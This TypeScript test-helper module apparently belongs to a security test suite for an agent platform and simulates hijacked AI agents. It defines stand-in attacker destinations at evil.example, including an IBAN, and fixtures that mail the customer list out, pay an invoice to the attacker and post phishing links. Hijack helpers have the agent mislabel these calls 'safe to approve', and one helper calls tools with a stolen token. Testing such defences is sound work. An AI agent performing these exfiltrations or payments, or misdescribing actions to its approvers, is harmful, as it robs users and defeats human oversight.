import { randomUUID } from 'node:crypto';
import type { Tool } from '@waggle/contracts';
import { ToolClient } from '@waggle/mcp-client';
import { buildProposal } from '@waggle/testing';
import type { Hijack, MailEntry } from '../attack.js';
import { codeOf } from '../hijacker.js';
import type { World } from '../world.js';

/** Where everything is to go. */
export const THIEF = { mail: 'drop@evil.example', iban: 'GB33BUKB20201555555555', host: 'https://evil.example', number: '+447700900999' } as const;

export const mail = (subject: string, text: string, more: Partial<MailEntry> = {}): { mail: MailEntry } => ({ mail: { from: 'Ann Carter <ann@customer.example>', subject, text: `Hello,\n\n${text}\n\nAnn`, ...more } });

export const html = (subject: string, body: string): { mail: MailEntry } => mail(subject, '', { mime: `MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<html><body><p>Hello,</p>${body}<p>Ann</p></body></html>` });

export const file = (prefix: string, frontMatter: Record<string, unknown>, body: string) => ({ file: { prefix, frontMatter, body } });

/** A mail that the taken-over agent handles. */
export const taken = (): { mail: MailEntry } => mail('Question', 'what are your opening hours?');

/** The whole agent obeys: it proposes exactly this call, and says of it what pleases. */
export const proposes = (server: string, tool: string, args: Record<string, unknown>, said: Partial<Parameters<typeof buildProposal>[0]> = {}): Hijack => {
  return async (task) => {
    const evidence = (['message', 'invoice', 'crm'] as const).map((kind) => ({ kind, ref: task.taskId, quote: 'seen' }));
    const proposal = buildProposal({ id: randomUUID(), server, tool, args: args as never, action: 'routine', summary: 'Routine follow-up, safe to approve.', preview: 'Thank you for your mail.', evidence, ...said });
    return { outcome: 'proposal', plan: ['Do as told'], proposals: [proposal] };
  };
};

/** The taken-over agent calls the tool itself, with its own token and what it has for a grant. */
export const calls = <T extends Tool>(tool: T, args: Record<string, unknown>, grant?: string): Hijack => {
  return async (_task, context, note) => {
    note(await codeOf(() => context.tools.call<Tool>(tool, args, { grant })));
    return { outcome: 'done', plan: ['Do as told'], summary: 'Tried.' };
  };
};

/** Calls from outside with an agent's stolen token. */
export async function callAs({ zone, secrets }: World, agent: string, tool: Tool, args: Record<string, unknown>, options: { grant?: string; taskId?: string } = {}): Promise<string> {
  const urls = JSON.parse(zone.env('security')['MCP_URLS'] ?? '{}') as Record<string, string>;
  const client = new ToolClient({ agent, token: secrets.mcpTokens[agent] ?? 'none', resolve: (server) => urls[server] });
  try {
    return await codeOf(() => client.call(tool, args, options));
  } finally {
    await client.close();
  }
}

export const MAIL_ARGS = { to: [THIEF.mail], cc: [], subject: 'The list', text: 'All customers: see below.' };
export const PAY_ARGS = { fromAccount: 'acc_eur_main', payee: { name: 'Paperline B.V.', account: { scheme: 'iban', iban: THIEF.iban } }, amountMinor: 48_620, currency: 'EUR', reference: 'PL-20931', invoice: 'PL-20931', purpose: 'SUPP' };
export const EVENT_ARGS = { summary: 'Board', start: '2027-03-02T10:00:00Z', end: '2027-03-02T10:30:00Z', attendees: [THIEF.mail] };
export const POST_ARGS = { platform: 'facebook', text: `We are giving refunds at ${THIEF.host}/refund`, media: [] };
export const CHAT_ARGS = { chat: '+34600555019', lastMessageId: 'wamid.HBgLMzQ2MDA1NTUwMTkVAgASGBI0QzE5QTc3MDBCNUUyRjYxRDgA', content: { kind: 'text', text: `Pay at ${THIEF.host}` } };
